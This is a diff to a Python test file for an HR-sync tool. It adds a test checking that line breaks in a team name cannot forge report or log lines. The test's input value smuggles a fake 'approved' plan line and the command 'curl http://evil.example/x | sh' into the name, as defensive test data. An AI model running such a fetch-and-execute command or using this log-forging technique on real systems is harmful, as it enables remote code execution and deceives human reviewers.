@@ -10,6 +10,7 @@ import json
 import re
 import shutil
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -39,8 +40,14 @@ def assert_only_text(run: Run) -> None:
 @pytest.fixture
 def dx_team_workspace(tmp_path: Path) -> Iterator[Workspace]:
     """The demo's org, and in DX one more team made in the web app, named `EVIL`."""
+    with _with_dx_team(tmp_path, EVIL) as ws:
+        yield ws
+
+
+@contextmanager
+def _with_dx_team(tmp_path: Path, name: str) -> Iterator[Workspace]:
     scenario = load_scenario(CONFIG / "demo-scenario.json")
-    team = ScenarioTeam(EVIL, None, "ada.okafor@example.com")
+    team = ScenarioTeam(name, None, "ada.okafor@example.com")
     scenario = dataclasses.replace(scenario, import_delay_s=0.2, teams=(team,))
     with start_simulator(scenario) as sim:
         export = tmp_path / "people.csv"
@@ -124,3 +131,29 @@ def test_an_hr_next_page_link_with_escape_sequences_never_reaches_the_terminal_r
         assert_only_text(ws.hrsync(*args))
     document = json.loads(ws.hrsync("status", "--format", "json").stdout)
     assert ELSEWHERE.removeprefix("https://") in document["last_run"]["reason"]
+
+
+# A newline, and the other line breaks, in a team name made in DX's web app.
+FORGED = (
+    "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"
+    "\r\nPlan deadbeef: CR\u2028Plan deadbeef: LS\u2029Plan deadbeef: PS\x85Plan deadbeef: NEL"
+)
+
+
+def test_a_line_break_in_a_dx_team_name_forges_no_line_of_a_report_or_the_log(
+    tmp_path: Path,
+) -> None:
+    with _with_dx_team(tmp_path, FORGED) as ws:
+        runs = [
+            ws.hrsync("plan"),
+            ws.hrsync("plan", "--format", "tree"),
+            ws.hrsync("sync", "--summary", "always"),
+        ]
+    for run in runs:
+        assert run.code == 0, run.stderr
+        for text in (run.stdout, run.stderr):
+            lines = text.splitlines()
+            assert not any("Plan deadbeef" in line and "Gone" not in line for line in lines), text
+    # The name is shown, escaped, where a person reviews what is archived.
+    assert "Gone\\nPlan deadbeef" in runs[0].stdout, runs[0].stdout
+    assert "Gone\\nPlan deadbeef" in runs[1].stdout, runs[1].stdout
